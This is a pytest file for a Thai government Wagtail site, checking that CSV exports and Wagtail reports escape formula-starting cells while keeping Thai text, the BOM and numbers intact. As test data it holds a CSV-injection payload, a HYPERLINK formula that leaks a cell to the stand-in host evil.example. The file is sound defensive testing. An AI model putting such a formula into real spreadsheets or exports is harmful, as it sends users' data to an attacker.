"""No CSV we produce runs a formula in Excel: text cells starting with =, +, -, @, tab or CR
get a leading ' (``spreadsheets.escape_cell``), in each of our exports and in Wagtail's own
reports, with Thai and the BOM intact and numbers left as numbers."""

import csv
import datetime
import io
import re

import pytest
from django.http import HttpResponse, StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone
from wagtail.log_actions import log

from moit_wagtail.pages import models as pages
from moit_wagtail.spreadsheets import BOM, FORMULA_STARTS, escape_cell, escape_formulas
from tests import test_monitoring_reports as shared
from tests.test_traffic_log import traffic  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db

first_site = shared.first_site
second_unit = shared.second_unit
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
PAYLOADS = (HYPERLINK, "+1", "-2+3", "@SUM(1)")
THAI = "ประกาศหลักเกณฑ์"
TITLES = [f"{payload} {THAI}" for payload in PAYLOADS]
THAI_LETTER = re.compile("[\u0e00-\u0e7f]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def cells_of(response):
    """Every cell of a CSV export, checked: one BOM, Thai intact, no formula left to run."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(BOM) and body.count(BOM) == 1
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    assert any(THAI_LETTER.search(cell) for cell in cells)
    runnable = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert runnable == []
    return cells


def escaped(value):
    return "'" + value


@pytest.fixture
def hostile_pages(make_page, editor):
    """Pages whose title and information owner start a formula, by a hostile-named editor."""
    editor.first_name = HYPERLINK
    editor.save()
    made = []
    for number, title in enumerate(TITLES):
        page = make_page(
            pages.LawPage,
            title=title,
            slug=f"hostile-{number}",
            owner_unit=f"{PAYLOADS[number]} กลุ่มงาน",
            review_by="2020-01-01",
        )
        made.append(page)
    return made


def test_publications_listing(admin_client, hostile_pages):
    cells = cells_of(admin_client.get(reverse("moit_publications:index"), {"export": "csv"}))
    for number, title in enumerate(TITLES):
        assert escaped(title) in cells
        assert escaped(f"{PAYLOADS[number]} กลุ่มงาน") in cells


def test_stale_pages_report(admin_client, hostile_pages, make_page):
    soon = timezone.localdate() + datetime.timedelta(days=5)
    make_page(pages.LawPage, title="ทบทวนเร็ว ๆ นี้", slug="soon", review_by=soon)
    cells = cells_of(admin_client.get("/admin/moit/monitoring/stale/", {"export": "csv"}))
    assert {escaped(title) for title in TITLES} <= set(cells)
    assert escaped(f"{HYPERLINK} ใจดี") in cells  # the responsible person's name
    assert "-5" in cells  # days overdue, a number: written as a number, not escaped


def test_coverage_report(admin_client, make_page):
    title, owner = f"{HYPERLINK} {THAI}", "@SUM(1) กลุ่มงาน"
    make_page(pages.ProcurementResultPage, title=title, owner_unit=owner)  # evidence of MOIT 5
    cells = cells_of(admin_client.get("/admin/moit/monitoring/coverage/", {"export": "csv"}))
    assert any(cell.startswith(escaped(title)) for cell in cells)  # the evidence link
    assert escaped(owner) in cells


def test_provincial_rollup(admin_client, hostile_pages, first_site, second_unit):
    first_site.site_name = f"{HYPERLINK} สสจ."
    first_site.save()
    cells = cells_of(admin_client.get("/admin/moit/monitoring/rollup/", {"export": "csv"}))
    assert escaped(f"{HYPERLINK} สสจ.") in cells


def test_traffic_log_agent_and_host(client, admin_user, home_page):
    for payload in PAYLOADS:
        client.get("/", HTTP_USER_AGENT=f"{payload} {THAI}")
    assert client.get("/", HTTP_HOST=HYPERLINK).status_code == 400  # a rejected Host
    client.force_login(admin_user)
    today = timezone.localdate().isoformat()
    cells = cells_of(client.post("/admin/moit/traffic/", {"date_from": today, "date_to": today}))
    assert {escaped(title) for title in TITLES} <= set(cells)
    assert escaped(HYPERLINK) in cells


@pytest.fixture
def wagtail_report_data(admin_user, hostile_pages, unit):
    for page in hostile_pages:
        log(instance=page, action="wagtail.edit", user=admin_user)
    locked = hostile_pages[0]
    locked.locked, locked.locked_by = True, admin_user
    locked.save()
    moderated = hostile_pages[1]
    moderated.save_revision(user=admin_user)
    moderated.get_workflow().start(moderated, admin_user)


@pytest.mark.parametrize(
    "report, expected",
    [
        ("wagtailadmin_reports:site_history", TITLES),
        ("wagtailadmin_reports:locked_pages", TITLES[:1]),
        ("wagtailadmin_reports:workflow", TITLES[1:2]),
        ("wagtailadmin_reports:aging_pages", TITLES),
    ],
)
def test_wagtails_own_reports(client, admin_user, wagtail_report_data, report, expected):
    client.force_login(admin_user)
    cells = cells_of(client.get(reverse(report), {"export": "csv"}))
    for title in expected:
        assert escaped(title) in cells


@pytest.mark.parametrize("value", [*PAYLOADS, "\tx", "\rx", "＝1+1", "'=already"])
def test_escape_cell_of_text(value):
    result = escape_cell(value)
    assert result == (value if value.startswith("'") else escaped(value))


@pytest.mark.parametrize("value", [-3, 2.5, None, "ข่าว", "", "1-2", " =spaced"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert escape_cell(value) == value


def test_rewriting_a_stream_keeps_rows_whatever_the_chunking():
    source = io.StringIO()
    rows = [["หัวข้อ", "n"], [HYPERLINK, "5"], ["สอง\nบรรทัด", "@SUM(1)"], ["a\u2028b", "-1"]]
    csv.writer(source).writerows(rows)
    data = BOM + source.getvalue().encode()
    expected = [["หัวข้อ", "n"], [escaped(HYPERLINK), "5"], ["สอง\nบรรทัด", "'@SUM(1)"]]
    expected.append(["a\u2028b", "'-1"])  # every cell is text here: a number is escaped too
    for size in (1, 2, 3, 7, len(data)):
        chunks = [data[i : i + size] for i in range(0, len(data), size)]
        response = escape_formulas(StreamingHttpResponse(iter(chunks)))
        text = b"".join(response.streaming_content).decode("utf-8")
        assert list(csv.reader(io.StringIO(text))) == expected
        assert escape_formulas(response) is response  # once only


def test_rewriting_a_plain_response():
    response = escape_formulas(HttpResponse("=1,ก\r\n".encode()))
    assert response.content.decode() == "'=1,ก\r\n"
